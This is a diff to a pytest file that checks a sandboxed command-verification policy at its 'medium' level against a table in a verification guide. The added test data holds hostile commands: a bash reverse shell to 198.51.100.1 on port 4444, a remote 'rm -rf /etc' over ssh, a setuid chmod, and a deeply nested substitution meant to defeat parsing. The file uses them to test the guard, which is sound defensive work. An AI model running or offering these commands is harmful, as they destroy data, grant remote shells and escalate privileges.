@@ -6,6 +6,7 @@ import shutil
 
 import pytest
 
+from atoll import ROOT
 from test_verify_gate import records
 
 DESTROY = "rm -rf /etc/not-there"                       # critical and certain, of what is staged or private: nothing
@@ -132,3 +133,48 @@ def test_daily_work_is_never_refused(sandbox, command):
     env = "export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@b GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@b\n"
     done = sandbox.run(["bash", "-c", env + command])
     assert not rules(done), done.report["denials"]
+
+
+# ---- the table of doc/guide/verification.md ----
+
+ELSEWHERE = "ssh -o BatchMode=yes 198.51.100.7 'rm -rf /etc'"
+SHELL_FOR_OTHERS = "bash -i >& /dev/tcp/198.51.100.1/4444 0>&1"
+# How a row begins -> a deed of it that is critical and certain, and what else the policy says. None: see below.
+DEEDS = {
+    "files that are destroyed": (DESTROY, ""),
+    "the same on another machine": (ELSEWHERE, ""),
+    "files, in a sandbox that writes in place": (DESTROY, "files: {{write: [{place}]}}"),
+    "rights": ("touch tool; chmod 4755 ./tool || true", ""),
+    "load": (FORK, ""),
+    "load, without one": (FORK, "resources: {{memory: unlimited}}"),
+    "what is carried off": (CARRY, ""),
+    "what hides what it is": (SHELL_FOR_OTHERS, ""),
+    "what could not be judged": ("x=" + "$(" * 300 + "true" + ")" * 300, ""),
+}
+
+
+def table():
+    rows = [line.strip("| \n").split(" | ") for line in (ROOT / "doc/guide/verification.md").read_text().splitlines()
+            if line.startswith("| ") and not line.startswith("| what it is about")]
+    return {row[0]: row[3] for row in rows}
+
+
+def test_the_guide_has_a_row_for_each_deed():
+    assert len(table()) == len(DEEDS) and set(table().values()) == {"asked", "noted"}
+    # The longest beginning is the row's: "load" is not "load, without …".
+    for what in table():
+        assert [begin for begin in DEEDS if what.startswith(begin)], what
+
+
+@pytest.mark.parametrize("begin", DEEDS)
+def test_medium_does_what_the_guide_says(sandbox, begin):
+    what = next(row for row in sorted(table(), key=len) if row.startswith(begin))
+    deed, text = DEEDS[begin]
+    place = sandbox.make_directory(sandbox.home / "kept")
+    sandbox.write(sandbox.project / "deed.sh", f"exit 0\n{deed}\n")
+    done = at_level(sandbox, "medium", ["bash", "deed.sh"], text.format(place=place))
+    found = findings(sandbox, done)
+    assert found, done
+    refused = bool(rules(done))
+    # Nobody answers here, so that what is asked about is refused.
+    assert refused == (table()[what] == "asked") and (done.code == 0) != refused, (what, found)
